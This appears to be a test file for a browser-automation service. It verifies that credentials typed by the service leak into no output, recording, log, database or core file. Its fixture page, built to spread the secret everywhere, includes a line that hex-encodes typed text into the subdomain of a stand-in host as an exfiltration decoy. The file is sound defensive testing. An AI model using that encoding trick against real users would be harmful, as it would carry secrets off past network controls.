// Text that the service types cannot be found anywhere afterwards, although the page copies the text: to its
// title, address, text, console, requests, errors, dialogs and file names. Also, the server's memory is not written to
// a core file.
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { test } from 'node:test';
import type { Invocation } from '../../contract/invocations.ts';
import type { DebugUrls } from '../../contract/live.ts';
import { Owner } from '../harness/configured.ts';
import { filesUnder } from '../harness/files-under.ts';
import { colourOf, framesOf } from '../harness/film.ts';
import { liftLimits } from '../harness/limits.ts';
import { LiveViewer } from '../harness/live-viewer.ts';
import { agentPath, invoke, issueAgentKey } from '../harness/operations.ts';
import { queryRows, readDatabaseText } from '../harness/other-person.ts';
import { startOtlpReceiver } from '../harness/otlp-receiver.ts';
import { openPages } from '../harness/pages.ts';
import { pdfText } from '../harness/pdf-text.ts';
import { decodePng } from '../harness/png.ts';
import {
  fetchFilm,
  fetchPlaylist,
  listRecordingFiles,
  listReplays,
  requestFiles,
  waitForPlaylist,
} from '../harness/recordings.ts';
import { CHECKOUT, startServer } from '../harness/server.ts';
import { eventually } from '../harness/until.ts';

const PASSWORD = 'Zq8!plötzlich "laut" & <weit>';
const USERNAME = 'mara.lind@bank.example';
/** Covers the time limit of the steps, the start of the browser, and delays on a busy machine. */
const CALL_TIMEOUT_MS = 180_000;
const MAGENTA = '#ff00ff';

/** The vertical positions of the field, its copy and the text, as fractions of the height of a frame. */
const VERTICAL_POSITIONS = [0.08, 0.25, 0.42];
type Colour = readonly [number, number, number];
const isMagenta = ([r, g, b]: Colour): boolean => r > 120 && g < 100 && b > 120;
const isBlack = (colour: Colour): boolean => colour.every(value => value < 40);

const base64 = (text: string): string => Buffer.from(text).toString('base64');
/**
 * Returns every form in which the page repeats a text. If a form depends on the surrounding text, only the part that is
 * always the same is included.
 */
const formsOf = (text: string): readonly string[] => [
  ...[
    text,
    encodeURIComponent(text),
    encodeURIComponent(text).toLowerCase(),
    new URLSearchParams({ '': text }).toString().slice(1),
  ],
  ...[JSON.stringify(text).slice(1, -1), JSON.stringify(JSON.stringify(text)).slice(3, -3)],
  ...[text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')],
  ...['', 'u', 'us'].map(before => base64(before + text).slice(4, -4)),
  Buffer.from(text).toString('hex'),
  // The encodings of the text in a PDF file.
  Buffer.from(text, 'utf16le').swap16().toString('latin1'),
  Buffer.from(text, 'utf16le').swap16().toString('hex').toUpperCase(),
];
const SECRET_FORMS = [PASSWORD, USERNAME].flatMap(formsOf);
const findForm = (text: string): string | undefined => SECRET_FORMS.find(form => text.includes(form));

/** The text field and the elements that show the typed text turn magenta. No magenta pixel may be visible. */
const PAGE = `<!doctype html><meta charset="utf-8"><title>Bank</title><style>body{margin:0}
  input, p{position:absolute;left:0;width:400px;height:96px;margin:0;border:0;font-size:20px;background:#fff} input{top:0} #copy{top:100px} #shown{top:200px} #stuck{position:absolute;top:320px}</style>
  <input id="password"><input id="copy"><p id="shown"></p><button id="stuck" disabled>stuck</button><a id="link" href="/">link</a><input id="user" style="top:400px">
  <button id="open" style="position:absolute;top:520px" onclick="globalThis.twin = window.open(location.href); passing('/shown', 'type')">open</button><script>
  const passing = (path, id) => fetch(path).then(() => document.body.append(Object.assign(document.createElement('b'), { id, textContent: id })));
  const b64 = text => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
  const spread = field => {
    const said = field.value;
    const encoded = encodeURIComponent(said);
    const forms = [said, encoded, JSON.stringify(said), b64(said), b64('u' + said), b64('us' + said)];
    for (const element of [shown, copy, field]) element.style.background = '${MAGENTA}';
    shown.textContent = 'you typed ' + said;
    copy.value = said;
    document.title = said;
    link.href = '/link?said=' + encoded;
    stuck.setAttribute('data-said', said);
    for (const form of forms) { console.log('typed', form, { form, [form]: [form] }); console.error(form) }
    console.log('x'.repeat(8180) + said, 'y'.repeat(4085) + said);
    setTimeout(() => { throw new Error(said) });
    history.pushState({ said }, '', '/page?typed=' + encoded + '#' + encoded);
    fetch('/api?said=' + encoded + '&b64=' + encodeURIComponent(b64(said)), { method: 'POST', headers: { 'x-said': encoded, 'x-b64': b64(said) }, body: JSON.stringify({ said }) }).catch(() => {});
    fetch('/api/' + 'z'.repeat(2000) + '?said=' + encoded).catch(() => {});
    const hex = [...new TextEncoder().encode(said)].map(byte => byte.toString(16).padStart(2, '0')).join('');
    fetch('http://' + hex + '.b.test/').catch(() => {});
    new WebSocket('ws://' + location.host + '/ws?said=' + encoded);
    document.cookie = 'said=' + encoded;
    Object.assign(document.createElement('a'), { download: said + '.txt', href: 'data:text/plain,x' }).click();
    for (const there of globalThis.twin ? [twin.document] : []) {
      const [copied, stood] = ['copy', 'shown'].map(id => there.getElementById(id));
      for (const element of [copied, stood]) element.style.background = '${MAGENTA}';
      copied.value = said;
      stood.textContent = there.title = 'twin of ' + said;
      twin.console.log('twin', said);
      twin.history.pushState({ said }, '', '/page?twin=' + encoded);
      setTimeout(() => twin.alert(said), 50);
      return;
    }
    setTimeout(() => alert(said), 50);
  };
  passing('/watched', 'go');
  password.oninput = () => spread(password);
  user.oninput = () => spread(user);
</script>`;
/**
 * The page waits for both promises: `watched` resolves when the viewer watches the page, and `shown` when the page's
 * window is shown.
 */
let [watched, shown] = [Promise.resolve(), Promise.resolve()];
const pages = await openPages({
  '/page': PAGE,
  '/watched': (_, response) => void watched.then(() => response.end('ok')),
  '/shown': (_, response) => void shown.then(() => response.end('ok')),
  '/api': (request, response) => {
    const { searchParams } = new URL(request.url ?? '', 'http://x');
    const said = encodeURIComponent(searchParams.get('said') ?? '');
    response
      .writeHead(200, { 'x-echo': said, 'content-type': 'text/plain', location: `/next?${said}` })
      .end(decodeURIComponent(said));
  },
});
const receiver = await startOtlpReceiver();
const env = { BERTH_SLOTS: '2', BERTH_LOG_LEVEL: 'debug', OTEL_EXPORTER_OTLP_ENDPOINT: receiver.url };
const server = await startServer({ pages, env });
await liftLimits(server);
const owner = await Owner.open(server);
const writeResponse = await owner.writeCredential('bank', {
  type: 'login',
  value: { username: USERNAME, password: PASSWORD },
  origins: [pages.a],
});
assert.equal(writeResponse.status, 201, writeResponse.text);
const { key } = await issueAgentKey(server, { grants: [{ operationId: 'browser.steps', credentials: ['bank'] }] });
const fill = (selector: string, field: string) => ({ do: 'fill', selector, credential: 'bank', field });
let callCount = 0;
const runSteps = (all: readonly object[], more: object = {}, prefer = 'wait=55') => {
  callCount += 1;
  const headers = { 'idempotency-key': `call ${callCount}`, prefer };
  return invoke(
    server,
    key,
    'browser.steps',
    {
      ...{ url: `${pages.a}/page`, steps: all, viewport: { width: 800, height: 600 }, timeoutMs: 60_000 },
      ...{ networkPolicy: { deny: ['b.test'] }, ...more },
    },
    { headers },
  );
};

const searchedTexts: Array<{ readonly where: string; readonly text: string }> = [];
const keep = (where: string, text: string): void => void searchedTexts.push({ where, text });

async function keepTables(): Promise<void> {
  const tableQuery =
    "select quote_ident(table_name) as name from information_schema.tables where table_schema = 'public'";
  const names = (await queryRows(server, tableQuery)).map(row => String(Object(row).name));
  assert.ok(names.length > 20);
  for (const name of names) keep(`table ${name}`, await readDatabaseText(server, [name]));
}

const sessionIds: string[] = [];

test('results, pictures and errors of a call that types credentials do not contain the typed text', async () => {
  const { body, text } = await runSteps([
    { ...fill('#user', 'username') },
    { ...fill('#password', 'password') },
    { do: 'sleep', ms: 1500 },
    { do: 'content', as: 'text' },
    { do: 'content', as: 'html' },
    { do: 'content', as: 'links' },
    {
      do: 'extract',
      fields: {
        shown: { selector: '#shown' },
        said: { selector: '#stuck', attribute: 'data-said' },
        all: { selector: 'p', all: true },
      },
    },
    { do: 'screenshot' },
    { do: 'screenshot', selector: '#copy', format: 'jpeg' },
    { do: 'pdf' },
  ]);
  assert.equal(body.status, 'succeeded', text);
  const { results, artifacts, title, url } = Object(body.output);
  assert.equal(results[3].content.includes('you typed ***'), true, results[3].content);
  assert.equal(results[6].fields.said, '***');
  assert.equal(title, '***');
  assert.match(url, /typed=\*\*\*/);
  sessionIds.push(body.sessionId ?? '');
  keep('the answer', text);
  const [screenshotBytes, , pdf] = await Promise.all(
    artifacts.map(async ({ downloadUrl }: { downloadUrl: string }) => {
      const response = await fetch(downloadUrl);
      const bytes = Buffer.from(await response.arrayBuffer());
      assert.equal(response.status, 200, bytes.toString('latin1'));
      return bytes;
    }),
  );
  const screenshot = decodePng(screenshotBytes);
  for (const [x, y] of [
    [200, 50],
    [200, 150],
    [200, 250],
  ] as const)
    assert.notEqual(screenshot.colourAt(x, y), MAGENTA, `${x} ${y}`);
  assert.equal(screenshot.colourAt(200, 50), '#000000');
  assert.equal(pdf.subarray(0, 4).toString(), '%PDF');
  keep('the PDF file', pdf.toString('latin1'));
  const printedText = pdfText(pdf);
  assert.ok(printedText.includes('stuck'), 'the text of the PDF file can be read');
  keep('the text of the PDF file', printedText);
  const failedCallResponse = await runSteps([fill('#password', 'password'), { do: 'click', selector: '#stuck' }], {
    timeoutMs: 5_000,
  });
  assert.deepEqual(
    [failedCallResponse.body.status, failedCallResponse.body.error?.code],
    ['failed', 'timeout'],
    failedCallResponse.text,
  );
  assert.match(failedCallResponse.text, /\*\*\*/, 'the error shows the element');
  sessionIds.push(failedCallResponse.body.sessionId ?? '');
  keep('the answer of a failed call', failedCallResponse.text);
});

test('a viewer of another window at the same address does not see the text that the service types', async () => {
  const [toOpen, toType] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
  [watched, shown] = [toOpen.promise, toType.promise];
  const steps = [
    ...[
      { do: 'waitFor', selector: '#go' },
      { do: 'click', selector: '#open' },
      { do: 'waitFor', selector: '#type' },
    ],
    ...[fill('#password', 'password'), { do: 'sleep', ms: 2000 }, { do: 'content', as: 'text' }],
  ];
  const { body: invocation, text } = await runSteps(steps, {}, 'respond-async');
  const read = () => server.api<Invocation>('GET', agentPath(server, `invocations/${invocation.id}`), { key });
  const { body } = await eventually('the session', read, ({ body: { sessionId } }) => sessionId !== undefined);
  const id = body.sessionId ?? assert.fail(text);
  sessionIds.push(id);
  const debugResponse = await server.api<DebugUrls>('GET', `/v1/browsers/sessions/${id}/debug`);
  const viewer = await LiveViewer.open(debugResponse.body.debuggerUrl);
  await eventually('a picture', () => viewer.frameCount > 0 && viewer.page !== '');
  toOpen.resolve();
  const openerId = viewer.page;
  const [twin] = await eventually(
    'the window',
    () => viewer.tabs.filter(({ page }) => page !== openerId),
    all => all.length === 1,
  );
  viewer.send({ type: 'watch', page: twin?.page });
  await eventually('a picture of the window', () => viewer.newestFrame?.head.page === twin?.page);
  toType.resolve();
  const seenFrames = new Set<Buffer>();
  const look = () => {
    if (viewer.newestFrame) seenFrames.add(viewer.newestFrame.jpeg);
    return read();
  };
  const { body: endedInvocation, text: result } = await eventually(
    'the end of the call',
    look,
    ({ body: { status } }) => status !== 'running',
    CALL_TIMEOUT_MS,
  );
  await viewer.close();
  assert.equal(endedInvocation.status, 'succeeded', result);
  keep('the answer with a window', result);
  keep('the messages of the live view', JSON.stringify(viewer.messages));
  const sampledColours = [...seenFrames].map(jpeg => VERTICAL_POSITIONS.map(y => colourOf(jpeg, 0.25, y)));
  assert.deepEqual(sampledColours.flat().filter(isMagenta), []);
  assert.ok(
    sampledColours.some(colours => colours.slice(1).every(isBlack)),
    'the picture is black where the page shows the text',
  );
});

test('logs, HAR files, lists, events and receipts do not contain the typed text', async () => {
  for (const id of sessionIds) {
    await eventually(
      'the session to end',
      () => server.read(id),
      ({ status }) => status !== 'RUNNING',
    );
    const read = (path: string) => server.api('GET', `/v1/browsers/sessions/${id}${path}`);
    const logsResponse = await eventually(
      'the log',
      () => read('/logs'),
      ({ text }) => text.includes('Runtime.consoleAPICalled'),
    );
    assert.match(logsResponse.text, /\*\*\*/);
    keep('logs', logsResponse.text);
    for (const path of ['', '/logs?format=har', '/events']) keep(path, (await read(path)).text);
  }
  const listPaths = ['/v1/browsers/sessions', `/v1/browsers/downloads?sessionId=${sessionIds[0]}`];
  for (const path of listPaths) keep(path, (await server.api('GET', path)).text);
  const { body, text } = await server.api<{ data: Invocation[] }>('GET', agentPath(server, 'invocations'), { key });
  keep('invocations', text);
  for (const { id } of body.data) keep('an invocation', (await owner.send('GET', `invocations/${id}`)).text);
  for (const { receipt } of body.data)
    keep('a receipt', Buffer.from(receipt?.split('.')[1] ?? '', 'base64url').toString());
  assert.ok(body.data.every(({ receipt }) => receipt !== undefined));
  keep('audit', (await owner.send('GET', 'audit?limit=100')).text);
  keep('credentials', (await owner.send('GET', 'credentials')).text);
});

test('the recordings of a page and of the window that it opened do not show the typed text', async () => {
  const id = sessionIds.at(-1) ?? assert.fail();
  const replays = await eventually(
    'two replays',
    () => listReplays(server, id),
    all => all.length === 2,
  );
  // The first page is behind the second one while the text is shown, so no frame of the first page is captured then.
  // Only the recording of the second page must show black.
  for (const { pageId } of replays) {
    const film = await fetchFilm(await waitForPlaylist(server, id, pageId, text => text.includes('#EXT-X-ENDLIST')));
    for (const y of VERTICAL_POSITIONS.slice(1)) {
      const colours = framesOf(film, 0.25, y).map(({ colour }) => colour);
      assert.deepEqual(colours.filter(isMagenta), [], `${pageId} ${y}`);
      if (pageId !== '0') assert.ok(colours.some(isBlack), `black at ${y} of ${pageId}`);
    }
  }
});

test('the replay and the MP4 file of a recording are black where the page showed the typed text', async () => {
  const [id = ''] = sessionIds;
  const [replay] = await eventually(
    'a replay',
    () => listReplays(server, id),
    all => all.length > 0,
  );
  const playlist = await waitForPlaylist(server, id, replay?.pageId ?? '0', text => text.includes('#EXT-X-ENDLIST'));
  assert.ok((await fetchPlaylist(server, id, replay?.pageId ?? '0')) !== undefined);
  await requestFiles(server, id);
  const files = await eventually(
    'the MP4 file',
    () => listRecordingFiles(server, id),
    all => all.some(({ downloadUrl }) => downloadUrl !== undefined),
  );
  const mp4 = Buffer.from(await (await fetch(files[0]?.downloadUrl ?? '')).arrayBuffer());
  for (const film of [await fetchFilm(playlist), mp4])
    for (const y of VERTICAL_POSITIONS) {
      const frames = framesOf(film, 0.25, y);
      const magentaFrames = frames.filter(({ colour }) => isMagenta(colour));
      assert.equal(magentaFrames.length, 0, `${y}: ${JSON.stringify(magentaFrames)}`);
      assert.ok(
        frames.some(({ colour }) => isBlack(colour)),
        `black at ${y}`,
      );
    }
});

test('the database, data folder, log and traces of the server do not contain the typed text', async () => {
  await receiver.span('cdp.connection');
  await keepTables();
  for (const path of filesUnder(server.dataDir))
    if (existsSync(path) && statSync(path).isFile()) keep(path, readFileSync(path).toString('utf8'));
  keep('the log of the server', server.log().join('\n'));
  assert.ok(server.log().length > 5);
  keep(
    'the traces',
    JSON.stringify(receiver.spans, (_, value) => (typeof value === 'bigint' ? String(value) : value)),
  );
  assert.ok(receiver.spans.length > 5);
  const leaks = searchedTexts.flatMap(({ where, text }) => {
    const form = findForm(text);
    return form === undefined
      ? []
      : [`${where}: ${text.slice(Math.max(0, text.indexOf(form) - 100), text.indexOf(form) + 100)}`];
  });
  assert.deepEqual(leaks, []);
  assert.ok(searchedTexts.length > 50);
  // Text that is not secret is found, which proves that the search is effective.
  assert.ok(searchedTexts.some(({ where, text }) => where === 'logs' && text.includes('/page?typed=')));
  for (const place of ['/events', 'the log of the server'])
    assert.ok(
      searchedTexts.some(({ where, text }) => where === place && text.includes('"***.b.test"')),
      `the refused host in ${place}`,
    );
});

test('a killed server leaves no core file, and a core file would not contain the memory of the server', async () => {
  const { pid } = server;
  assert.match(readFileSync(`/proc/${pid}/limits`, 'utf8'), /^Max core file size\s+0\s+0\s/m);
  assert.equal(Number.parseInt(readFileSync(`/proc/${pid}/coredump_filter`, 'utf8'), 16), 0);
  const listCores = (): readonly string[] =>
    [CHECKOUT, process.cwd(), server.dataDir].flatMap(folder =>
      readdirSync(folder).filter(name => /^core(\.|$)/.test(name)),
    );
  const coresBefore = listCores();
  await server.restart('SIGABRT');
  assert.deepEqual(listCores(), coresBefore);
});
